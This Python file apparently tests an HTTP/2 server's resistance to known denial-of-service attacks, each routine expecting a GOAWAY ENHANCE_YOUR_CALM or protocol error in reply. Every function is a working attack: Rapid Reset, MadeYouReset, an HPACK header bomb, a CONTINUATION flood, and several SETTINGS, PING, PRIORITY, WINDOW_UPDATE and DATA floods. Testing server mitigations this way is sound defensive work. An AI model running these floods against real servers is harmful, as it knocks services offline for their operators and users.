"""Frames for the sake of frames: each flood ends with GOAWAY ENHANCE_YOUR_CALM, or the error of what it broke."""
from http2_frames import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, FLOW_CONTROL_ERROR, HEADERS,
                          INITIAL_WINDOW_SIZE, PING, PRIORITY, RESET, SETTINGS, WINDOW_UPDATE, Client, call, frame,
                          integer, literal, request_headers, setting)

from attacks.registry import MIB, PUT, WATCH, attack, expect, expect_calm, flood, number32


@attack(32)
def rapid_reset(port, full):
    client = Client(port)
    for stream in range(1, 200_001, 2):
        if not client.send(call(stream, WATCH) + frame(RESET, 0, stream, number32(CANCEL))):
            break
    expect_calm(client)


def flood_with(port, malformed):
    client = Client(port)
    block = request_headers(WATCH) + malformed
    for stream in range(1, 200_001, 2):
        if not client.send(frame(HEADERS, END_HEADERS, stream, block)):
            break
    expect_calm(client)


@attack(32)
def made_you_reset(port, full):
    """Requests broken so that the server resets them."""
    flood_with(port, literal(b"UPPER-CASE", b"x"))


@attack(32)
def nameless_headers(port, full):
    """Headers of no name and no value, 500 in each request."""
    flood_with(port, literal(b"", b"") * 500)


@attack(64)
def header_bomb(port, full):
    """A header of 4000 bytes put into the table once, named 10,000 times in each request: 40 MB in one frame."""
    client = Client(port)
    block = request_headers(PUT) + literal(b"bomb", b"x" * 3900, 0x40) + integer(62, 7, 0x80) * 10_000
    for stream in range(1, 2 * (100 if full else 10), 2):
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
        got = client.next_of(RESET)
        if got is None:
            expect(not client.alive, "neither a reset nor the end")
            return


@attack(32)
def continuation_flood(port, full):
    client = Client(port)
    client.send(frame(HEADERS, 0, 1, request_headers(PUT)))
    more = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 1000)) * 100
    for _ in range(5000):
        if not client.send(more):
            break
    expect(client.goaway() is not None or not client.alive, "the connection stays open")


@attack(32)
def settings_flood(port, full):
    flood(port, frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 1000)) * 500)


@attack(48)
def settings_of_many_streams(port, full):
    """Each changes the windows of ten thousand streams, of 3.4 KiB each."""
    client = Client(port)
    for i in range(0, 10_000 if full else 2000, 100):
        client.send(b"".join(call(2 * j + 1, WATCH) for j in range(i, i + 100)))
    for i in range(4000):
        if not client.send(frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 1000 + i % 2))):
            break
    expect_calm(client)


@attack(32)
def ping_flood(port, full):
    flood(port, frame(PING, 0, 0, b"12345678") * 500)


@attack(32)
def ping_ack_flood(port, full):
    flood(port, frame(PING, ACK, 0, b"12345678") * 500)


@attack(32)
def empty_data_flood(port, full):
    flood(port, frame(DATA, 0, 1) * 500, before=call(1, WATCH))


@attack(32)
def tiny_data_flood(port, full):
    """A message byte by byte, as fast as it goes."""
    flood(port, frame(DATA, 0, 1, b"x") * 500, before=call(1, PUT) + frame(DATA, 0, 1, b"\0" + number32(MIB)))


@attack(32)
def priority_flood(port, full):
    flood(port, frame(PRIORITY, 0, 5, b"\0\0\0\0\1") * 500)


@attack(32)
def window_update_flood(port, full):
    flood(port, frame(WINDOW_UPDATE, 0, 1, number32(1)) * 500, before=call(1, WATCH))


@attack(32)
def window_overflow(port, full):
    """More window than there can be: of a stream, and of the connection."""
    client = Client(port)
    client.send(call(1, WATCH) + frame(WINDOW_UPDATE, 0, 1, number32((1 << 31) - 1)))
    got = client.next_of(RESET)
    expect(got is not None and got[3] == number32(FLOW_CONTROL_ERROR), f"{got}, not a reset")
    client.send(frame(WINDOW_UPDATE, 0, 0, number32((1 << 31) - 1)))
    expect_calm(client, FLOW_CONTROL_ERROR)


@attack(32)
def unknown_frame_flood(port, full):
    flood(port, frame(0xbe, 0, 1, b"x" * 8000) * 100, rounds=MIB)


@attack(32)
def data_of_closed_streams(port, full):
    before = call(1, WATCH) + frame(RESET, 0, 1, number32(CANCEL))
    flood(port, frame(DATA, 0, 1, b"x" * 8000) * 100, before=before, rounds=MIB)


@attack(32)
def headers_of_closed_streams(port, full):
    before = call(1, WATCH) + frame(RESET, 0, 1, number32(CANCEL))
    flood(port, frame(HEADERS, END_HEADERS, 1, request_headers(WATCH)) * 100, before=before, rounds=MIB)
